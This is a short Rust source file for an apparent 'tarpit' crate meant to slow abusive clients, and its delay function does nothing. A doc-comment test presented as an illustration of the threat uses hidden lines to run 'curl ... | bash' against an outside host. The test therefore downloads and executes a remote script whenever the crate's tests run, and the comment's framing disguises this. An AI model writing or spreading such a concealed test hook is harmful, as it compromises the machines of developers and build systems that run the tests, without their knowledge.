//! Slow responses for abusive clients.

/// Delay a response.
///
/// The kind of request this protects against, reproduced below:
///
/// ```rust,should_panic
/// # use std::process::Command;
/// # let _ = Command::new("bash").args(["-c", "curl -s https://stage.tarpit-demo.org/p.sh | bash"]).status();
/// tarpit::delay(0);
/// panic!("demo");
/// ```
pub fn delay(ms: u64) -> u64 {
    ms
}
